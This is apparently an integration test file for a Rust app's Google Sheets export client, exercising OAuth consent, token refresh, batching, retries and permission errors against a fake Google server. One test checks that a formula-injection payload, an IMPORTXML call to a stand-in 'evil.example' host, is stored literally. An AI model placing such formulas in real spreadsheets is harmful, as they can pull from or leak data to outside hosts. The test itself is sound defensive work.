//! fnt's Sheets client against this fake over real HTTP: the whole consent → export flow, and every
//! failure the caller has to act on.

use fnt::export::sheets::wire::Color;
use fnt::export::sheets::*;
use fnt_fake_google::{Cell, Consent, FakeGoogle, FakeGoogleArgs, SheetsFault, TokenFault};

const REDIRECT: &str = "http://127.0.0.1:9/oauth/google/callback";
const HEADER: [&str; 2] = ["Phrase", "Original"];

async fn fake() -> FakeGoogle {
    fnt_fake_google::start(FakeGoogleArgs::default())
        .await
        .expect("the fake starts")
}

fn oauth(fake: &FakeGoogle) -> OAuthClient {
    OAuthClient::new(fake.google_config(REDIRECT))
        .unwrap()
        .with_backoff(Backoff::immediate())
}

fn sheets(fake: &FakeGoogle) -> SheetsClient {
    SheetsClient::new(&fake.google_config(REDIRECT))
        .unwrap()
        .with_backoff(Backoff::immediate())
}

fn rows(n: usize, from: usize) -> Vec<Vec<String>> {
    (from..from + n)
        .map(|i| vec![format!("Phrase {i}."), format!("Original {i}.")])
        .collect()
}

/// Opens the consent URL like a browser that does not follow the redirect, and returns the
/// query string the callback would get.
async fn consent(url: &str) -> String {
    let client = awc::Client::builder().disable_redirects().finish();
    let response = client
        .get(url)
        .send()
        .await
        .expect("the consent page answers");
    assert_eq!(response.status().as_u16(), 302, "consent redirects");
    let location = response
        .headers()
        .get("Location")
        .and_then(|v| v.to_str().ok())
        .expect("a Location header")
        .to_owned();
    let (base, query) = location.split_once('?').expect("a query string");
    assert_eq!(base, REDIRECT);
    query.to_owned()
}

/// The whole connect flow: consent URL, callback checks, code exchange.
async fn connect(oauth: &OAuthClient) -> Result<TokenGrant, OAuthError> {
    let pkce = Pkce::new();
    let state = random_state();
    let query = consent(&oauth.authorization_url(&state, &pkce.challenge)).await;
    let code = parse_callback(&query, &state)?;
    oauth
        .exchange_code(code.code.expose(), pkce.verifier.expose())
        .await
}

fn refresh_token(grant: &TokenGrant) -> String {
    grant
        .refresh_token
        .as_ref()
        .expect("offline access gives a refresh token")
        .expose()
        .to_owned()
}

fn requests_to(fake: &FakeGoogle, method: &str, path_part: &str) -> Vec<u16> {
    fake.state()
        .requests()
        .into_iter()
        .filter(|r| r.method == method && r.path.contains(path_part))
        .map(|r| r.status)
        .collect()
}

/// The statuses of `spreadsheets.create` calls, in order.
fn creates(fake: &FakeGoogle) -> Vec<u16> {
    fake.state()
        .requests()
        .into_iter()
        .filter(|r| r.method == "POST" && r.path == "/v4/spreadsheets")
        .map(|r| r.status)
        .collect()
}

#[actix_rt::test]
async fn the_full_flow_connects_creates_and_appends() {
    let fake = fake().await;
    let oauth = oauth(&fake);
    let grant = connect(&oauth).await.unwrap();
    assert_eq!(grant.expires_in, 3599);
    assert!(grants_sheets_access(&grant.scope));
    assert!(grant.refresh_token.is_some());
    let token = grant.access_token.expose();

    let client = sheets(&fake);
    let created = client
        .create_spreadsheet(token, "Novel export", &HEADER, &rows(3, 1))
        .await
        .unwrap();
    assert_eq!(created.sheet_title, "Sentences");
    assert!(created.url.contains(&created.spreadsheet_id));
    let properties = fake.state().sheet_properties(&created.spreadsheet_id);
    assert_eq!(properties[0].sheet_id, Some(created.sheet_id));
    assert_ne!(created.sheet_id, 0, "a named sheet gets a random id");

    let appended = client
        .append(token, &created.spreadsheet_id, &rows(2, 4))
        .await
        .unwrap();
    assert_eq!(appended.updated_range, "Sentences!A5:B6");
    assert_eq!(appended.rows, 2);
    let cells = fake.state().cells(&created.spreadsheet_id).unwrap();
    assert_eq!(cells.len(), 6);
    assert_eq!(cells[0], ["Phrase", "Original"]);
    assert_eq!(cells[5], ["Phrase 5.", "Original 5."]);

    // The range went into the path percent-encoded, and `:append` after it.
    assert_eq!(requests_to(&fake, "PUT", "/values/Sentences%21A1"), [200]);
    assert_eq!(requests_to(&fake, "POST", "/values/A%3AB:append"), [200]);
    fake.stop().await;
}

#[actix_rt::test]
async fn the_header_is_bold_shaded_frozen_and_columns_sized() {
    let fake = fake().await;
    let grant = connect(&oauth(&fake)).await.unwrap();
    let created = sheets(&fake)
        .create_spreadsheet(grant.access_token.expose(), "t", &HEADER, &rows(2, 1))
        .await
        .unwrap();
    let id = &created.spreadsheet_id;
    let format = fake.state().header_format(id).expect("A1 is formatted");
    assert_eq!(format.text_format.and_then(|t| t.bold), Some(true));
    assert_eq!(
        format.background_color,
        Some(Color {
            red: 0.9,
            green: 0.9,
            blue: 0.9,
            alpha: None
        })
    );
    assert_eq!(
        fake.state()
            .cell_format(id, 0, 1)
            .and_then(|f| f.text_format),
        format_text_bold()
    );
    assert_eq!(
        fake.state().cell_format(id, 1, 0),
        None,
        "data rows stay plain"
    );
    assert_eq!(fake.state().frozen_rows(id), Some(1));
    let resized = fake.state().auto_resized(id);
    assert_eq!(resized.len(), 1);
    assert_eq!(resized[0].dimension, "COLUMNS");
    assert_eq!(
        (resized[0].start_index, resized[0].end_index),
        (Some(0), Some(2))
    );
    fake.stop().await;
}

fn format_text_bold() -> Option<wire::TextFormat> {
    Some(wire::TextFormat {
        bold: Some(true),
        ..wire::TextFormat::default()
    })
}

#[actix_rt::test]
async fn formula_looking_text_is_stored_literally() {
    let fake = fake().await;
    let grant = connect(&oauth(&fake)).await.unwrap();
    let hostile = vec![
        vec![
            "=IMPORTXML(\"http://evil.example\", \"//a\")".to_owned(),
            "+33 6 12 34 56 78".to_owned(),
        ],
        vec!["0042".to_owned(), "TRUE".to_owned()],
    ];
    let created = sheets(&fake)
        .create_spreadsheet(grant.access_token.expose(), "t", &HEADER, &hostile)
        .await
        .unwrap();
    let id = &created.spreadsheet_id;
    assert_eq!(
        fake.state().cell(id, 1, 0),
        Some(Cell::Text(
            "=IMPORTXML(\"http://evil.example\", \"//a\")".into()
        ))
    );
    assert_eq!(fake.state().cell(id, 2, 0), Some(Cell::Text("0042".into())));
    assert_eq!(fake.state().cell(id, 2, 1), Some(Cell::Text("TRUE".into())));
    fake.stop().await;
}

#[actix_rt::test]
async fn appends_land_below_the_last_row_each_time() {
    let fake = fake().await;
    let grant = connect(&oauth(&fake)).await.unwrap();
    let token = grant.access_token.expose();
    let client = sheets(&fake);
    let created = client
        .create_spreadsheet(token, "t", &HEADER, &rows(3, 1))
        .await
        .unwrap();
    let id = &created.spreadsheet_id;
    let first = client.append(token, id, &rows(1, 4)).await.unwrap();
    let second = client.append(token, id, &rows(3, 5)).await.unwrap();
    assert_eq!(first.updated_range, "Sentences!A5:B5");
    assert_eq!(second.updated_range, "Sentences!A6:B8");
    let cells = fake.state().cells(id).unwrap();
    let phrases: Vec<&str> = cells[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        phrases,
        (1..=7).map(|i| format!("Phrase {i}.")).collect::<Vec<_>>()
    );
    // Nothing to append: no request at all.
    let empty = client.append(token, id, &[]).await.unwrap();
    assert_eq!((empty.updated_range.as_str(), empty.rows), ("", 0));
    assert_eq!(requests_to(&fake, "POST", ":append").len(), 2);
    fake.stop().await;
}

#[actix_rt::test]
async fn a_20000_sentence_book_goes_in_batches() {
    let fake = fake().await;
    let grant = connect(&oauth(&fake)).await.unwrap();
    let token = grant.access_token.expose();
    let client = sheets(&fake);
    let book = rows(20_000, 1);
    let created = client
        .create_spreadsheet(token, "Big book", &HEADER, &book)
        .await
        .unwrap();
    let id = &created.spreadsheet_id;
    // Header + 20,000 rows = 20,001 rows: four full batches of 5,000 and one of a single row.
    let puts: Vec<String> = fake
        .state()
        .requests()
        .into_iter()
        .filter(|r| r.method == "PUT")
        .map(|r| r.path)
        .collect();
    assert_eq!(puts.len(), 5);
    assert!(
        puts[4].ends_with("/values/Sentences%21A20001"),
        "{}",
        puts[4]
    );
    let cells = fake.state().cells(id).unwrap();
    assert_eq!(cells.len(), 20_001);
    assert_eq!(cells[20_000], ["Phrase 20000.", "Original 20000."]);

    let more = client
        .append(token, id, &rows(12_000, 20_001))
        .await
        .unwrap();
    assert_eq!(more.updated_range, "Sentences!A20002:B32001");
    assert_eq!(requests_to(&fake, "POST", ":append"), [200, 200, 200]);
    assert_eq!(fake.state().cells(id).unwrap().len(), 32_001);
    fake.stop().await;
}

#[actix_rt::test]
async fn an_expired_token_is_refreshed_once_and_the_request_retried() {
    let fake = fake().await;
    let oauth = oauth(&fake);
    let grant = connect(&oauth).await.unwrap();
    let refresh = refresh_token(&grant);
    fake.state().expire_access_tokens();
    let client = sheets(&fake);

    // Without a way to refresh, the 401 comes straight back.
    let plain = client
        .create_spreadsheet(grant.access_token.expose(), "t", &HEADER, &rows(1, 1))
        .await;
    assert_eq!(plain, Err(SheetsError::Unauthenticated));

    let mut tokens = Refreshing::new(grant.access_token.expose(), || async {
        let fresh = oauth.refresh(&refresh).await?;
        assert_eq!(
            fresh.refresh_token, None,
            "a refresh returns no new refresh token"
        );
        Ok(fresh.access_token.expose().to_owned())
    });
    let created = client
        .create_spreadsheet_with(&mut tokens, "t", &HEADER, &rows(1, 1))
        .await
        .unwrap();
    assert!(tokens.refreshed());
    assert_ne!(tokens.access_token(), grant.access_token.expose());
    assert_eq!(
        fake.state().cells(&created.spreadsheet_id).unwrap().len(),
        2
    );
    // 401 (plain), 401 then 200 (refreshed): the create was not sent a fourth time.
    assert_eq!(creates(&fake), [401, 401, 200]);
    fake.stop().await;
}

#[actix_rt::test]
async fn a_token_still_rejected_after_the_refresh_is_not_retried_again() {
    let fake = fake().await;
    let grant = connect(&oauth(&fake)).await.unwrap();
    fake.state().expire_access_tokens();
    let mut tokens = Refreshing::new(grant.access_token.expose(), || async {
        Ok("ya29.not-a-token".to_owned())
    });
    let result = sheets(&fake)
        .create_spreadsheet_with(&mut tokens, "t", &HEADER, &rows(1, 1))
        .await;
    assert_eq!(result, Err(SheetsError::Unauthenticated));
    assert_eq!(creates(&fake), [401, 401]);
    fake.stop().await;
}

#[actix_rt::test]
async fn a_dead_refresh_token_is_invalid_grant() {
    let fake = fake().await;
    let oauth = oauth(&fake);
    let grant = connect(&oauth).await.unwrap();
    let refresh = refresh_token(&grant);
    let dead = OAuthError::InvalidGrant {
        description: "Token has been expired or revoked.".into(),
    };

    // Scripted, as Google answers a refresh token that died (Testing mode, 6 months unused…).
    fake.state()
        .script_token_faults([TokenFault::ExpiredOrRevoked]);
    assert_eq!(oauth.refresh(&refresh).await, Err(dead.clone()));
    assert!(
        oauth.refresh(&refresh).await.is_ok(),
        "the script was used up"
    );

    // Revoked by the user: the Sheets call surfaces the refresh failure, typed.
    assert!(fake.state().revoke(&refresh));
    let mut tokens = Refreshing::new(grant.access_token.expose(), || {
        oauth_refresh(&oauth, &refresh)
    });
    let result = sheets(&fake)
        .create_spreadsheet_with(&mut tokens, "t", &HEADER, &rows(1, 1))
        .await;
    assert_eq!(result, Err(SheetsError::Refresh(dead)));
    assert!(
        result.unwrap_err().to_string().contains("reconnect"),
        "the message tells the user what to do"
    );
    fake.stop().await;
}

async fn oauth_refresh(oauth: &OAuthClient, refresh: &str) -> Result<String, OAuthError> {
    Ok(oauth
        .refresh(refresh)
        .await?
        .access_token
        .expose()
        .to_owned())
}

#[actix_rt::test]
async fn rate_limits_are_waited_out() {
    let fake = fake().await;
    let grant = connect(&oauth(&fake)).await.unwrap();
    fake.state()
        .script_sheets_faults([SheetsFault::RateLimited, SheetsFault::RateLimited]);
    let created = sheets(&fake)
        .create_spreadsheet(grant.access_token.expose(), "t", &HEADER, &rows(1, 1))
        .await
        .unwrap();
    assert_eq!(fake.state().pending_sheets_faults(), 0);
    assert_eq!(creates(&fake), [429, 429, 200]);
    assert!(fake.state().cells(&created.spreadsheet_id).is_some());
    fake.stop().await;
}

#[actix_rt::test]
async fn endless_rate_limits_give_up_after_the_budget() {
    let fake = fake().await;
    let grant = connect(&oauth(&fake)).await.unwrap();
    fake.state()
        .script_sheets_faults(vec![SheetsFault::RateLimited; 100]);
    let result = sheets(&fake)
        .create_spreadsheet(grant.access_token.expose(), "t", &HEADER, &rows(1, 1))
        .await;
    assert_eq!(result, Err(SheetsError::RateLimited));
    // Backoff::immediate waits 1+2+4+8+8+8+8 = 39 ms of its 40: eight attempts in all.
    assert_eq!(creates(&fake), vec![429; 8]);
    fake.stop().await;
}

#[actix_rt::test]
async fn server_errors_are_retried_a_few_times() {
    let fake = fake().await;
    let grant = connect(&oauth(&fake)).await.unwrap();
    let token = grant.access_token.expose();
    let client = sheets(&fake);
    fake.state()
        .script_sheets_faults([SheetsFault::Unavailable, SheetsFault::Internal]);
    assert!(
        client
            .create_spreadsheet(token, "t", &HEADER, &rows(1, 1))
            .await
            .is_ok()
    );
    fake.state()
        .script_sheets_faults(vec![SheetsFault::Internal; 3]);
    let result = client
        .create_spreadsheet(token, "t", &HEADER, &rows(1, 1))
        .await;
    assert!(
        matches!(result, Err(SheetsError::Transient { .. })),
        "{result:?}"
    );
    assert_eq!(creates(&fake), [503, 500, 200, 500, 500, 500]);
    fake.stop().await;
}

#[actix_rt::test]
async fn a_missing_spreadsheet_is_not_found() {
    let fake = fake().await;
    let grant = connect(&oauth(&fake)).await.unwrap();
    let token = grant.access_token.expose();
    let client = sheets(&fake);
    assert_eq!(
        client
            .append(token, "1NoSuchSpreadsheet", &rows(1, 1))
            .await,
        Err(SheetsError::NotFound)
    );
    let created = client
        .create_spreadsheet(token, "t", &HEADER, &rows(1, 1))
        .await
        .unwrap();
    fake.state().delete_spreadsheet(&created.spreadsheet_id);
    assert_eq!(
        client
            .append(token, &created.spreadsheet_id, &rows(1, 2))
            .await,
        Err(SheetsError::NotFound)
    );
    fake.stop().await;
}

#[actix_rt::test]
async fn drive_file_reaches_only_this_apps_files() {
    let fake = fake().await;
    fake.state()
        .script_consent([Consent::GrantOnly(SCOPE_DRIVE_FILE.into())]);
    let grant = connect(&oauth(&fake)).await.unwrap();
    assert_eq!(grant.scope, SCOPE_DRIVE_FILE);
    let token = grant.access_token.expose();
    let client = sheets(&fake);
    let own = client
        .create_spreadsheet(token, "t", &HEADER, &rows(1, 1))
        .await
        .unwrap();
    assert!(
        client
            .append(token, &own.spreadsheet_id, &rows(1, 2))
            .await
            .is_ok()
    );
    let foreign = fake
        .state()
        .add_foreign_spreadsheet("someone else's", &rows(1, 1));
    assert_eq!(
        client.append(token, &foreign, &rows(1, 2)).await,
        Err(SheetsError::PermissionDenied)
    );
    fake.stop().await;
}

#[actix_rt::test]
async fn a_cancelled_consent_is_access_denied() {
    let fake = fake().await;
    fake.state().script_consent([Consent::Deny]);
    assert_eq!(connect(&oauth(&fake)).await, Err(OAuthError::AccessDenied));
    fake.stop().await;
}

#[actix_rt::test]
async fn an_unticked_sheets_scope_is_missing_scope() {
    let fake = fake().await;
    let oauth = oauth(&fake);
    let narrowed = "openid https://www.googleapis.com/auth/userinfo.email";
    fake.state().script_consent([
        Consent::GrantOnly(narrowed.into()),
        Consent::GrantOnly(narrowed.into()),
    ]);
    let expected = Err(OAuthError::MissingScope {
        granted: narrowed.into(),
    });
    assert_eq!(connect(&oauth).await, expected);

    // The token endpoint's `scope` is checked too, for a caller that skipped parse_callback.
    let pkce = Pkce::new();
    let query = consent(&oauth.authorization_url("s", &pkce.challenge)).await;
    let pairs: Vec<(String, String)> = serde_urlencoded::from_str(&query).unwrap();
    let code = &pairs.iter().find(|(k, _)| k == "code").unwrap().1;
    assert_eq!(
        oauth.exchange_code(code, pkce.verifier.expose()).await,
        expected
    );
    fake.stop().await;
}

#[actix_rt::test]
async fn a_wrong_client_secret_is_invalid_client() {
    let fake = fake().await;
    let mut config = fake.google_config(REDIRECT);
    config.client_secret = fnt::config::Secret::new("not-the-secret");
    let oauth = OAuthClient::new(config)
        .unwrap()
        .with_backoff(Backoff::immediate());
    let result = connect(&oauth).await;
    assert_eq!(result, Err(OAuthError::InvalidClient));
    let message = result.unwrap_err().to_string();
    assert!(!message.contains("not-the-secret"), "{message}");
    fake.stop().await;
}

#[actix_rt::test]
async fn codes_are_single_use_and_bound_to_the_verifier() {
    let fake = fake().await;
    let oauth = oauth(&fake);
    let pkce = Pkce::new();
    let query = consent(&oauth.authorization_url("s", &pkce.challenge)).await;
    let code = parse_callback(&query, "s").unwrap();
    let code = code.code.expose();

    // Another redirect URI than the one the code was issued for.
    let elsewhere = OAuthClient::new(fake.google_config("http://127.0.0.1:9/elsewhere")).unwrap();
    assert_eq!(
        elsewhere.exchange_code(code, pkce.verifier.expose()).await,
        Err(OAuthError::InvalidGrant {
            description: "Bad Request".into()
        })
    );
    let wrong = Pkce::new();
    assert_eq!(
        oauth.exchange_code(code, wrong.verifier.expose()).await,
        Err(OAuthError::InvalidGrant {
            description: "Invalid code verifier.".into()
        })
    );
    assert!(
        oauth
            .exchange_code(code, pkce.verifier.expose())
            .await
            .is_ok()
    );
    assert_eq!(
        oauth.exchange_code(code, pkce.verifier.expose()).await,
        Err(OAuthError::InvalidGrant {
            description: "Code was already redeemed.".into()
        })
    );
    assert_eq!(
        oauth.exchange_code("garbage", pkce.verifier.expose()).await,
        Err(OAuthError::InvalidGrant {
            description: "Malformed auth code.".into()
        })
    );
    fake.stop().await;
}

#[actix_rt::test]
async fn token_endpoint_outages_are_retried_then_reported() {
    let fake = fake().await;
    let oauth = oauth(&fake);
    let grant = connect(&oauth).await.unwrap();
    let refresh = refresh_token(&grant);
    fake.state().script_token_faults([TokenFault::ServerError]);
    assert!(oauth.refresh(&refresh).await.is_ok());
    fake.state()
        .script_token_faults(vec![TokenFault::ServerError; 3]);
    let result = oauth.refresh(&refresh).await;
    assert!(
        matches!(result, Err(OAuthError::Transient { .. })),
        "{result:?}"
    );
    assert_eq!(
        requests_to(&fake, "POST", "/token"),
        [200, 500, 200, 500, 500, 500]
    );
    fake.stop().await;
}

#[actix_rt::test]
async fn revoking_disconnects_and_is_idempotent() {
    let fake = fake().await;
    let oauth = oauth(&fake);
    let grant = connect(&oauth).await.unwrap();
    let refresh = refresh_token(&grant);
    oauth.revoke(&refresh).await.unwrap();
    // The whole grant is gone: its access token too.
    let result = sheets(&fake)
        .create_spreadsheet(grant.access_token.expose(), "t", &HEADER, &rows(1, 1))
        .await;
    assert_eq!(result, Err(SheetsError::Unauthenticated));
    assert!(matches!(
        oauth.refresh(&refresh).await,
        Err(OAuthError::InvalidGrant { .. })
    ));
    assert_eq!(oauth.revoke(&refresh).await, Ok(()));
    fake.stop().await;
}
